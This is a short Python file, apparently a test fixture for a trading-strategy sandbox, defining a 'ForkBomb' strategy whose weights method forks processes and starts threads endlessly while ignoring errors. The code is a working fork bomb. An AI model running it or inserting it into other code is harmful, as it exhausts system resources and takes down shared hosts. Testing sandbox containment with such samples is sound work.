"""Every process and every one of its children starts others and threads, without end and without a look at errors."""

import os
import threading
import time

from tapedeck import Strategy


class ForkBomb(Strategy):
    fields = ("close",)

    def weights(self, bars):
        print("ATTEMPTED a fork bomb", flush=True)
        while True:
            try:
                if os.fork() == 0:
                    threading.Thread(target=time.sleep, args=(600,)).start()
            except (OSError, RuntimeError):
                time.sleep(0.001)
